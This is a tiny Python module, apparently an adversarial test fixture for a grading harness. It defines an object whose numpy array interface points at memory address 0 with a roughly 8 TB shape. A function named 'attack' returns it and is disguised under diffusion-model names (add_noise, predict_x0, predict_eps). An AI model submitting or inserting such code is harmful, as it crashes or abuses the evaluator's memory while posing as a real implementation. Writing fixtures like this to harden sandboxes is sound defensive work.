"""Claim memory that is not its own."""

class Claim:
    """numpy would read 8 TB from address 0."""

    __array_interface__ = {"shape": (10**12,), "typestr": "<f8", "data": (0, True), "version": 3}


def attack(*args, **kwargs):
    return Claim()


add_noise = predict_x0 = predict_eps = attack
